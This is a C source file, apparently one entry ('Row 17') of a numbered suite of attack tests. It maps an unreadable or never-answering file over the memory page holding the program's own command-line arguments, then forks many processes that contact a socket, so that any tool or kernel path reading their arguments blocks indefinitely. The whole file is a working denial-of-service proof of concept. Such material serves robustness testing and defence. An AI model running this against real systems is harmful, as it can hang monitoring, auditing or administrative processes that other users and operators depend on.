/* Row 17: a program whose arguments lie in a file that cannot be read. Whoever asks the kernel for its command line reads
 * its memory, and waits for a file system in a user's process that never answers.
 *
 *   attack-arguments SOCKET COUNT FILE PADDING     so many processes ask, all with the same arguments; says "asking";
 *                                                  ends with its input. PADDING fills two pages at least.
 */
#include "attack-common.h"

/* Field 48 of /proc/self/stat: where the arguments begin. */
static unsigned long arguments_begin(void)
{
    char text[2048];
    int fd = open("/proc/self/stat", O_RDONLY | O_CLOEXEC);
    ssize_t count = read(fd, text, sizeof text - 1);
    if (count <= 0)
        die("/proc/self/stat");
    close(fd);
    text[count] = 0;
    char *field = strrchr(text, ')') + 1;
    for (int number = 3; number < 48; number++)
        field = strchr(field + 1, ' ');
    return strtoul(field, NULL, 10);
}

int main(int count, char **arguments)
{
    static pid_t asking[4096];
    static char socket_path[4096];
    char line[64];
    if (count < 5 || strlen(arguments[4]) < 8192)
        return 2;
    long page = sysconf(_SC_PAGESIZE);
    int wanted = atoi(arguments[2]), file = open(arguments[3], O_RDONLY | O_CLOEXEC);
    if (file < 0 || wanted > (int)(sizeof asking / sizeof asking[0]))
        die(arguments[3]);
    strncpy(socket_path, arguments[1], sizeof socket_path - 1);

    /* The first page may hold what this process needs; the next one holds nothing but arguments. */
    unsigned long next = (arguments_begin() / page + 1) * page;
    if (mmap((void *)next, page, PROT_READ, MAP_PRIVATE | MAP_FIXED, file, 0) == MAP_FAILED)
        die("mmap");
    for (int i = 0; i < wanted; i++) {
        asking[i] = fork();
        if (asking[i] == 0) {
            say(dial(socket_path), READ_TOKEN);
            pause();
            _exit(0);
        }
    }
    dprintf(1, "asking\n");
    while (read(0, line, sizeof line) > 0)
        ;
    for (int i = 0; i < wanted; i++)
        kill(asking[i], SIGKILL);
    for (int i = 0; i < wanted; i++)
        waitpid(asking[i], NULL, 0);
    return 0;
}
